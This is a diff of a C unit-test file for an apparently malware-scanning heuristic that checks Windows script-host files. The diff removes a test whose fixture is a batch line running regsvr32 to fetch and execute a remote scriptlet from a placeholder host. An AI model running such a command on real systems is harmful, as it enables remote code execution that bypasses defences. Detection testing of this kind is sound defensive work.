@@ -1,5 +1,6 @@
 /*
- * test_wsh - script-host files run on open, remote proxies, browser libraries are known good
+ * test_wsh - script-host files run on open, browser libraries are known good (remote proxies:
+ *            test_lolbas)
  */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -18,7 +19,6 @@ static HITS *run(const char *lang, const char *text, int depth)
     HEUR_CTX c = {.hits = h, .location = "2/a.zip>x", .depth = depth};
     heur_wsh(&c, lang, (const unsigned char *)text, strlen(text));
     heur_known(&c, lang, (const unsigned char *)text, strlen(text));
-    heur_lolbin(&c, (const unsigned char *)text, strlen(text));
     return h;
 }
 
@@ -53,24 +53,10 @@ static void test_wsh_files(void **state)
     hits_free(h);
 }
 
-static void test_lolbin_remote(void **state)
-{
-    (void)state;
-    HITS *h = run(
-        "bat", "@echo off\r\nregsvr32 /s /n /u /i:https://example.invalid/f.sct scrobj.dll\r\n", 0);
-    assert_true(hits_has(h, "SCRIPT_LOLBIN_REMOTE"));
-    hits_free(h);
-    h = run("bat", "@echo off\r\nmsiexec /i setup.msi /qn\r\necho see https://example.invalid/\r\n",
-            0);
-    assert_false(hits_has(h, "SCRIPT_LOLBIN_REMOTE")); /* not on one line */
-    hits_free(h);
-}
-
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_wsh_files),
-        cmocka_unit_test(test_lolbin_remote),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
